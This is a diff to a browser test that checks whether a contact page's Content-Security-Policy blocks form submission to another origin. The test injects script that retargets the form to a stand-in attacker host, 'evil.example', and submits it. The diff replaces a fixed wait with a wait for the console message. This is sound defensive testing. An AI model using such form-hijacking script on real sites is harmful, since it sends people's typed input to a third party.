@@ -145,16 +145,14 @@ def test_nobody_sees_or_reaches_the_trap(open_in, asking):
 
 def test_the_policy_lets_the_form_go_nowhere_else(open_in, asking, sent):
     page = open_in()
-    messages = watched(page)
     page.goto(f"{asking}/contact/")
     page.locator("#question").fill(TYPED)
-    page.evaluate(
-        "const form = document.querySelector('.ask-form-fields');"
-        "form.action = 'https://evil.example/'; form.requestSubmit()"
-    )
-    page.wait_for_timeout(300)
+    with page.expect_console_message(lambda message: "form-action" in message.text):
+        page.evaluate(
+            "const form = document.querySelector('.ask-form-fields');"
+            "form.action = 'https://evil.example/'; form.requestSubmit()"
+        )
 
-    assert any("form-action" in message for message in messages)
     assert page.url == f"{asking}/contact/"
 
 
